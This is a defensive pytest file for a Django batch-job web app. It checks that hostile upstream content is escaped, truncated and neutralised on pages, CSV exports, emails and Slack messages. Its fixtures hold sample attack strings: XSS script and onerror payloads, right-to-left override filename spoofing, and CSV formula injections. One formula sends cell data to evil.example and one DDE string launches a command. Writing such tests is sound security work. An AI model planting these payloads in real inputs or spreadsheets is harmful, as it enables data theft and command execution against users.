"""Hostile content (issue 13, item 4): what upstream, an input file or a person can put into a
batch is shown escaped and cut short on every page, neutralised in CSV, and harmless in emails
and chat messages. Never executed, never a 500.

One batch is made the way the sync worker makes any batch (`batch_upsert` from a payload), but
from a crafted payload: HTML and script in its label, metadata keys and values, file name,
upstream errors and status; 100 KB strings; control characters, right-to-left overrides,
zero-width characters and a lone surrogate (a JSON escape that is not valid Unicode). Its result
files hold the same in custom_ids, answers and error messages, plus bytes that are not UTF-8, a
line nested too deeply for the JSON reader, and numbers no column can hold. Every page that
shows the batch is read back, and so is each CSV export and notification.

The property-based side (hypothesis) is in tests/test_properties.py.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from batches.models import Batch, Event, ResultRow
from batches.services.batches import batch_upsert
from batches.services.notifications import (
    at_risk_subject,
    email_text,
    json_event,
    message_subject,
    slack_payload,
)
from tests.conftest import load_payload
from tests.test_result_files import DONE_AT, content_url, input_line, jsonl

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "abc\u202etxt.exe" reads "abcexe.txt"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
CONTROL = "".join(map(chr, range(0x01, 0x20))) + "\x7f"
SURROGATE = "\ud800"  # from a JSON "\ud800" escape: not encodable as UTF-8
BIG = 100_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# What a hostile string looks like once escaped: none of these may appear raw in a page.
RAW_MARKERS = ("<script>alert", "<img src=x", 'onerror="alert')


def hostile(tag: str, size: int = 0) -> str:
    """A string with every kind of hostile content, `tag` to find it again, padded to `size`."""
    text = f"{tag}{SCRIPT}{IMG}{RLO}gnp.exe{ZERO_WIDTH}{CONTROL}&amp;\"'"
    return text + "x" * max(0, size - len(text))


OPENAI_ID = "batch_hostile"
FILES = {"input": "file-in-hostile", "output": "file-out-hostile", "error": "file-err-hostile"}
LABEL = FORMULA + hostile("LBL", BIG)
CREATOR = "@" + hostile("WHO", BIG)


def hostile_payload() -> dict[str, Any]:
    payload = copy.deepcopy(load_payload("batch_in_progress.json"))
    payload.update(
        id=OPENAI_ID,
        status="completed",
        model="-" + hostile("MDL", 300),
        input_file_id=FILES["input"],
        output_file_id=FILES["output"],
        error_file_id=FILES["error"],
        completed_at=DONE_AT,
        request_counts={"total": 8, "completed": 3, "failed": 4},
        metadata={
            "job": LABEL,
            "batchweb_user": CREATOR,
            hostile("KEY", 2000): hostile("VAL", BIG),
            "+formula": "@SUM(A1:A9)",
            "surrogate" + SURROGATE: "value" + SURROGATE + "\x00",
        },
        errors={
            "object": "list",
            "data": [
                {
                    "code": hostile("ECODE", 500),
                    "message": hostile("EMSG", BIG),
                    "param": hostile("EPARAM", 500),
                    "line": 1,
                }
            ]
            * 3,
        },
        usage={"input_tokens": 10**30, "output_tokens": float("inf"), "total_tokens": -5},
        unknown_field={"nested": [SCRIPT] * 3},
    )
    return payload


def result_files() -> dict[str, bytes]:
    long_id = hostile("CID", BIG)
    ids = [
        FORMULA,
        "-" + hostile("CID1"),
        "@" + hostile("CID2"),
        long_id,
        "surrogate" + SURROGATE + "\x00",
        "\t=cmd|' /C calc'!A0",
        "+" + hostile("CID3"),
        "never-ran" + RLO,
    ]
    inputs = [input_line(cid, hostile("ASK", 2000)) for cid in ids]

    def ok(cid: str, answer: str) -> dict[str, Any]:
        return {
            "id": "batch_req_" + cid[:10],
            "custom_id": cid,
            "response": {
                "status_code": 200,
                "request_id": "req_1",
                "body": {
                    "choices": [{"message": {"role": "assistant", "content": answer}}],
                    "usage": {"prompt_tokens": 10**40, "completion_tokens": -3},
                },
            },
            "error": None,
        }

    def failed(cid: str, status: Any, message: str) -> dict[str, Any]:
        return {
            "id": "batch_req_x",
            "custom_id": cid,
            "response": {
                "status_code": status,
                "request_id": "req_2",
                "body": {"error": {"message": message, "code": hostile("RCODE", 400)}},
            },
            "error": None,
        }

    output = jsonl(
        [
            ok(ids[0], "=" + hostile("ANS", BIG)),
            ok(ids[1], "@" + hostile("ANS2")),
            ok(ids[3], hostile("ANS3") + SURROGATE),
            b"\xff\xfe not utf-8 \xc3\x28\n",
            b"[" * 100_000 + b"\n",
        ]
    )
    errors = jsonl(
        [
            failed(ids[2], 400, "+" + hostile("ERR", BIG)),
            failed(ids[4], 10**30, "-" + hostile("ERR2") + SURROGATE),
            failed(ids[5], -1, hostile("ERR3")),
            {"custom_id": ids[6], "response": None, "error": {"code": SCRIPT, "message": IMG}},
        ]
    )
    return {"input": jsonl(inputs), "output": output, "error": errors}


@pytest.fixture(autouse=True)
def data_dir(settings, tmp_path) -> Path:
    settings.DATA_DIR = tmp_path / "data"
    settings.BATCHWEB_BASE_URL = "https://batchweb.example.test"
    return settings.DATA_DIR


@pytest.fixture
def hostile_batch(db, upstream, admin_user) -> Batch:
    batch = batch_upsert(payload=hostile_payload()).batch
    Batch.objects.filter(pk=batch.pk).update(
        input_filename=("=" + hostile("FNAME", 300))[:255],
        last_error=hostile("LASTERR", 5000),
    )
    for kind, body in result_files().items():
        upstream.get(
            content_url(FILES[kind]),
            body=body,
            content_type="application/octet-stream",
            headers={"x-request-id": "req_content"},
        )
    Event.record(
        Event.Action.LABEL,
        user=admin_user,
        batch=batch,
        target="=" + hostile("TARGET", 300),
        detail="-" + hostile("DETAIL", BIG),
    )
    return Batch.objects.get(pk=batch.pk)


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client


def body_of(response) -> str:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def assert_escaped(page: str) -> None:
    lowered = page.lower()
    for marker in RAW_MARKERS:
        assert marker not in lowered, f"unescaped {marker!r} in the page"
    assert SURROGATE not in page


def batch_url(name: str, *args: Any) -> str:
    return reverse(name, args=["default", OPENAI_ID, *args])


# --- Pages -------------------------------------------------------------------------------------

PAGE_LIMIT = 250_000  # bytes: every hostile field is 100 KB, so each one is cut


def get_page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, url
    page = body_of(response)
    assert_escaped(page)
    assert len(page.encode()) < PAGE_LIMIT, f"{url}: {len(page):,} characters"
    return page


def test_the_list_shows_hostile_labels_escaped_cut_and_isolated(admin_client, hostile_batch):
    page = get_page(admin_client, reverse("batch-list"))
    assert "LBL&lt;script&gt;" in page
    assert "WHO&lt;script&gt;" in page
    # Names a person or upstream chose are isolated: an override cannot turn the row around.
    assert re.search(r"<bdi>=HYPERLINK\(", page)
    assert re.search(r"<bdi>@WHO&lt;script", page)


def test_the_batch_page_shows_everything_escaped_cut_and_isolated(admin_client, hostile_batch):
    page = get_page(admin_client, batch_url("batch-detail"))
    for tag in ("LBL", "WHO", "KEY", "VAL", "ECODE", "EMSG", "EPARAM", "FNAME", "LASTERR"):
        assert f"{tag}&lt;script&gt;" in page, tag
    assert "<bdi>=HYPERLINK(" in page
    assert "<bdi>@WHO&lt;script" in page
    assert re.search(r"<bdi>KEY&lt;script", page)
    assert "style=" not in page.split("<body", 1)[1]  # a strict CSP is coming: no inline styles


def test_the_results_pages_show_hostile_rows_escaped_and_cut(admin_client, hostile_batch):
    page = get_page(admin_client, batch_url("batch-results"))
    assert "CID1&lt;script" in page
    assert "ERR&lt;script" in page
    rows = ResultRow.objects.filter(batch=hostile_batch)
    assert rows.count() == 10  # 8 requests and the two unreadable lines
    for row in rows:
        assert len(row.custom_id) <= 512 and len(row.error_code) <= 128
        assert "\x00" not in row.custom_id + row.error_message + row.answer_preview
        result = get_page(admin_client, batch_url("batch-result", row.pk))
        assert "<bdi>" in result
    failed = rows.get(custom_id__startswith="surrogate")
    assert failed.status_code is None and "\ufffd" in failed.custom_id
    unreadable = rows.filter(custom_id__startswith="(unreadable line")
    assert unreadable.count() == 2


def test_the_activity_page_shows_hostile_entries_escaped_and_cut(admin_client, hostile_batch):
    page = get_page(admin_client, reverse("activity"))
    assert "DETAIL&lt;script" in page and "TARGET&lt;script" in page


def test_the_spend_and_profile_pages_survive_hostile_labels(admin_client, hostile_batch):
    get_page(admin_client, reverse("spend"))
    get_page(admin_client, reverse("profile"))


# --- CSV ---------------------------------------------------------------------------------------


def csv_rows(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    return list(csv.reader(io.StringIO(body_of(response))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell[:40]


def test_every_csv_export_neutralises_formulas(admin_client, hostile_batch, upstream):
    admin_client.get(batch_url("batch-results"))  # builds the results table
    exports = {
        "list": reverse("batch-export"),
        "results": batch_url("batch-results-csv"),
        "activity": reverse("activity-export"),
    }
    exports |= {f"spend-{t}": reverse("spend-export") + f"?table={t}" for t in ("label", "model")}
    seen = ""
    for name, url in exports.items():
        rows = csv_rows(admin_client, url)
        assert len(rows) > 1 or name.startswith("spend"), name
        assert_no_formula(rows)
        seen += json.dumps(rows)
    for prefixed in ("'=HYPERLINK(", "'@WHO", "'-CID1", "'@CID2", "'\\t=cmd", "'+ERR", "'-DETAIL"):
        assert prefixed in seen, prefixed


def test_csv_safe_prefixes_every_formula_start():
    from batches.services.result_files import csv_safe

    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        assert csv_safe(start + "1+1").startswith("'"), repr(start)
    assert csv_safe("plain") == "plain" and csv_safe(None) == "" and csv_safe(-3) == "'-3"


def test_a_download_name_from_a_hostile_id_is_a_safe_header(admin_client, db, upstream):
    """Such an id has no URL (batches/converters.py: the one pattern for upstream ids), and the
    name made from a batch's id for a download is a safe header whatever the id."""
    from django.urls import NoReverseMatch

    from batches.services.result_files import download_name

    payload = hostile_payload()
    payload.update(id='batch_a"b;c\u202e', output_file_id="file-out-x", metadata={})
    batch = batch_upsert(payload=payload).batch
    with pytest.raises(NoReverseMatch):
        reverse("batch-download", args=["default", batch.openai_id, "output"])
    name = download_name(batch, "output")
    assert name.startswith("batch_a_b_c_")
    assert '"' not in name and "\u202e" not in name and ";" not in name
    assert not upstream.calls


# --- Notifications ----------------------------------------------------------------------------


def test_emails_and_chat_messages_are_safe(hostile_batch, settings):
    for subject in (message_subject(hostile_batch), at_risk_subject(hostile_batch)):
        assert "\n" not in subject and "\r" not in subject and len(subject) <= 255
        assert RLO not in subject and not re.search(r"[\x00-\x1f\x7f]", subject)
    body = email_text(hostile_batch, reason="creator")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", body) and RLO not in body
    assert max(len(line) for line in body.splitlines()) < 400
    slack = slack_payload(hostile_batch)["text"]
    assert "<script" not in slack and "&lt;script&gt;" in slack
    # Only the batchweb link is a Slack link, and no mention can be made from a name.
    assert re.findall(r"<[^>]*>", slack) == [re.search(r"<https://[^>]*>", slack).group(0)]
    for mention in ("@channel", "@here", "@everyone"):
        hostile_batch.label = f"{mention} {mention.upper()} look"
        text = slack_payload(hostile_batch)["text"]
        assert mention not in text.lower(), mention
    event = json_event(hostile_batch)
    encoded = json.dumps(event)
    assert json.loads(encoded) == event


def test_a_hostile_channel_name_cannot_mention_anyone(hostile_batch):
    connection = hostile_batch.connection
    connection.name = "<!here> @here " + SCRIPT
    text = slack_payload(hostile_batch)["text"]
    assert "<!here>" not in text and "@here" not in text


# --- Forms echoing what they were given ---------------------------------------------------------


def test_a_hostile_label_posted_is_stored_and_echoed_escaped(admin_client, hostile_batch):
    label = SCRIPT + RLO + "=1+1"
    response = admin_client.post(batch_url("batch-label"), {"label": label}, follow=True)
    assert response.status_code == 200
    page = response.content.decode()
    assert_escaped(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert Batch.objects.get(pk=hostile_batch.pk).label == label


def test_cursor_parameters_out_of_range_are_ignored(admin_client, hostile_batch):
    big = "9" * 30
    for url in (
        reverse("batch-list") + f"?after={big}",
        reverse("batch-list") + f"?before=-{big}",
        reverse("activity") + f"?before=2026-01-01T00:00:00~{big}",
        reverse("batch-rows-live") + f"?ids={big}:x,\u00b2:y,\u0663:z",
        batch_url("batch-results") + f"?page={big}&q={SCRIPT}",
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode())


def test_users_named_hostilely_are_shown_escaped(admin_client, hostile_batch):
    User.objects.create_user("x" + SCRIPT[:20])
    page = get_page(admin_client, reverse("activity") + "?user=" + SCRIPT)
    assert "&lt;script&gt;" in page


# --- Bounds of what a hostile file can make ------------------------------------------------------


def test_a_summary_of_a_file_whose_every_error_differs_stays_small():
    from batches.results import MAX_CODES, summarize

    lines = b"".join(
        json.dumps({"custom_id": f"r{i}", "error": {"code": f"{i}" * 500, "message": "m"}}).encode()
        + b"\n"
        for i in range(300)
    )
    summary = summarize([io.BytesIO(lines)], total_requests=300)
    assert summary.failed == 300
    assert len(summary.failed_by_code) == MAX_CODES + 1  # the rest under "(other codes)"
    assert max(len(code) for code in summary.failed_by_code) <= 128
    assert len(json.dumps(summary.to_dict())) < 20_000


def test_raw_json_on_a_page_is_cut_and_encodable():
    from batches.templatetags.batchweb import PRETTY_JSON_CHARS, pretty_json

    shown = pretty_json({"a": "x" * BIG, "b": [SURROGATE] * 3}, 1000)
    assert len(shown) < 2000 and "(99,000 more characters)" in shown
    shown.encode("utf-8")
    many = pretty_json([str(i) * 50 for i in range(10_000)])
    assert len(many) < PRETTY_JSON_CHARS + 100 and many.endswith("download the file)")
    deep: Any = []
    for _ in range(5000):
        deep = [deep]
    assert "nested too deeply" in pretty_json(deep)


def test_a_payload_nested_as_deep_as_json_allows_is_stored(db):
    deep = json.loads("[" * 900 + '"\\u0000"' + "]" * 900)
    payload = {**hostile_payload(), "id": "batch_deep", "errors": {"data": deep}, "extra": deep}
    batch = batch_upsert(payload=payload).batch
    assert Batch.objects.get(pk=batch.pk).openai_id == "batch_deep"


def test_a_filter_s_options_are_escaped_and_mark_the_chosen_one():
    from types import SimpleNamespace

    from batches.templatetags.batchweb import options

    labels = ["<script>alert(1)</script>", 'a"b', "plain", "x" * 60]
    html = options(labels, "plain", truncate=40)
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert 'value="a&quot;b"' in html
    assert '<option value="plain" selected>plain</option>' in html
    assert html.count(" selected") == 1
    assert f'value="{"x" * 60}">{"x" * 39}…</option>' in html  # the whole value, shown cut
    connections = [SimpleNamespace(slug="eu", name="EU <team>")]
    assert options(connections, None, value="slug", text="name") == (
        '<option value="eu">EU &lt;team&gt;</option>'
    )
